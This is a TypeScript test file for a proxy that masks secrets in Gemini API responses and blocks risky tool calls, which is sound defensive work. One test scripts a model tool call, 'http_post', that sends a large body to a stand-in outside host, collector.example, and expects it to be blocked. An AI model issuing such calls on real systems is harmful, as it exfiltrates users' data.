// The real @google/genai client, through the real Envoy and the policies as they ship.
import { ApiError, GoogleGenAI } from '@google/genai';
import { describe, expect, test } from 'vitest';
import { podKey } from '../main-job/clients.ts';
import { installation, type Scripted } from '../main-job/installation.ts';
import { json, sse } from '../main-job/openai-says.ts';
import { all, rejected } from '../main-job/outcomes.ts';
import { awsKey, email, leaks } from '../main-job/samples.ts';
import { generated, generatedEvents } from './gemini-says.ts';

const penstock = installation({ home: 'gemini' });
const question = { model: 'gemini-2.5-flash', contents: 'hello' };
const masked = /^The key is \[REDACTED:aws-access-key\], ask <EMAIL_[0-9A-Z]{4}>\.$/;

function gemini({ headers }: Scripted): GoogleGenAI {
  return new GoogleGenAI({ apiKey: podKey, httpOptions: { baseUrl: `http://127.0.0.1:${penstock.port}`, headers } });
}

describe('@google/genai', () => {
  test('gets an answer with its secrets replaced', async () => {
    const script = penstock.script(json(generated([{ text: `The key is ${awsKey}, ask ${email}.` }], 'STOP')));
    const answer = await gemini(script).models.generateContent(question);
    expect(answer.text).toMatch(masked);
    expect(answer.usageMetadata?.totalTokenCount).toBe(12);
  });

  test('gets a stream with its secrets replaced wherever chunks cut them', async () => {
    for (const size of [1, 7, 200]) {
      const script = penstock.script(sse(generatedEvents(`The key is ${awsKey}, ask ${email}.`, size)));
      const got = await all(await gemini(script).models.generateContentStream(question));
      expect(got.map(({ text }) => text ?? '').join('')).toMatch(masked);
      expect(leaks(JSON.stringify(got))).toEqual([]);
    }
  });

  test('gets the function calls of a stream as objects, judged and masked', async () => {
    const call = { functionCall: { name: 'save', args: { note: `keep "${awsKey}"`, n: 1 } } };
    const script = penstock.script(sse(generatedEvents('One moment.', 4, [call])));
    const got = await all(await gemini(script).models.generateContentStream(question));
    expect(got.flatMap(({ functionCalls }) => functionCalls ?? [])).toMatchObject([
      { name: 'save', args: { note: 'keep "[REDACTED:aws-access-key]"', n: 1 } },
    ]);
  });

  test('throws its own error for what is blocked, with the reason and the exchange', async () => {
    const call = { functionCall: { name: 'http_post', args: { url: 'https://collector.example/in', body: 'x'.repeat(5_000) } } };
    const script = penstock.script(json(generated([call], 'STOP')));
    const thrown = await rejected(gemini(script).models.generateContent(question));
    expect(thrown).toBeInstanceOf(ApiError);
    expect(thrown).toMatchObject({ status: 403 });
    expect(thrown.message).toMatch(/a tool call sends a large body to an external host \(exchange ex_[0-9A-Z]{26}\)/);
  });

  test("does not hand the pod's key to the upstream", async () => {
    const script = penstock.script(json(generated([{ text: 'hi' }], 'STOP')));
    await gemini(script).models.generateContent(question);
    expect(script.seen).toHaveLength(1);
    expect(JSON.stringify(script.seen[0])).not.toContain(podKey);
  });
});
